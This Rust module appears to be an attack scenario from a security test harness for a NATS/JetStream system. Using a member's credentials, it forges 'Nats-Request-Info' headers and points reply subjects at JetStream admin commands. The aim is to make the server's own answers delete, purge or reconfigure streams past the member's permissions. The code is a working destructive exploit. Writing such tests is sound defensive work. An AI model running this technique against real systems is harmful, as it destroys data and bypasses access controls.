//! A member that has a NATS server answer onto the server's own subjects: an answer is published as the server itself,
//! past the member's permissions.

use anyhow::Context as _;
use async_nats::{ConnectOptions, HeaderMap};
use barograph_engine::token;
use serde_json::json;

use super::child::STATION;
use super::mesh::Mesh;

/// Sends, with the station's credentials, whatever may be answered onto a subject that deletes or empties a stream.
pub(super) fn attack(mesh: &Mesh) -> anyhow::Result<()> {
    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build()?;
    runtime.block_on(async {
        let (at, _) = mesh.reached_at();
        let own = format!("barograph.m.{}.x.rtt", token(STATION));
        let question = format!("barograph.a.{}.watermark", token(STATION));
        let client = ConnectOptions::with_credentials_file(mesh.credentials(STATION))
            .await?
            .custom_inbox_prefix(format!("_INBOX_{}", token(STATION)))
            .connect(at)
            .await
            .context("the member's credentials are taken")?;
        for stream in ["BAROGRAPH", "KV_barograph_dir"] {
            let commands = [
                ("DELETE", json!({})),
                ("PURGE", json!({})),
                ("MSG.DELETE", json!({ "seq": 1 })),
                ("UPDATE", json!({ "name": stream, "subjects": ["x"], "max_msgs": 5 })),
            ];
            for (command, content) in commands {
                let (target, content) = (format!("$JS.API.STREAM.{command}.{stream}"), content.to_string());
                for headers in forged() {
                    // Stored, so that an answer has this content.
                    let content = content.clone().into();
                    let stored = client.request_with_headers(own.clone(), headers, content).await;
                    stored.with_context(|| {
                        format!("before or during answers onto {target}: nothing is stored")
                    })?;
                    let question = json!({ "last_by_subj": own }).to_string();
                    for get in ["$JS.API.DIRECT.GET.BAROGRAPH", "barograph.g.BAROGRAPH"] {
                        client.publish_with_reply(get, target.clone(), question.clone().into()).await?;
                    }
                    client.flush().await?;
                }
                for asked in [own.as_str(), "barograph.i.BAROGRAPH", question.as_str(), target.as_str()] {
                    let asked = asked.to_string();
                    client.publish_with_reply(asked, target.clone(), content.clone().into()).await?;
                }
            }
        }
        // Answered after all of that was handled.
        client.flush().await?;
        Ok(())
    })
}

/// Headers by which a server takes a request for one of an account's own.
fn forged() -> Vec<HeaderMap> {
    let info = json!({ "acc": "BAROGRAPH", "svc": "BAROGRAPH" }).to_string();
    (1..=3)
        .map(|times| {
            let mut headers = HeaderMap::new();
            (0..times).for_each(|_| headers.append("Nats-Request-Info", info.as_str()));
            headers
        })
        .collect()
}
